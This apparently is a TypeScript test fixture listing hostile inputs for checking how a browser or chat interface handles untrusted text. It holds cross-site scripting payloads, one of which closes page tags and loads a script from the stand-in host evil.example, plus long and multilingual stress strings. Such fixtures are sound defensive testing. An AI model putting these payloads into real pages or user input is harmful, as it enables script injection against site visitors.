import { injections } from '../chat/hostileTexts.js';

/** What somebody might type who means a browser ill, or nothing at all. */
export const hostileTexts: readonly string[] = [
  ...injections,
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "' onmouseover='alert(1)",
  '</h3></article><script src=//evil.example/x.js></script>',
  '机床'.repeat(2_500),
  '😊',
  '平湖機床產業產值是多少？',
];
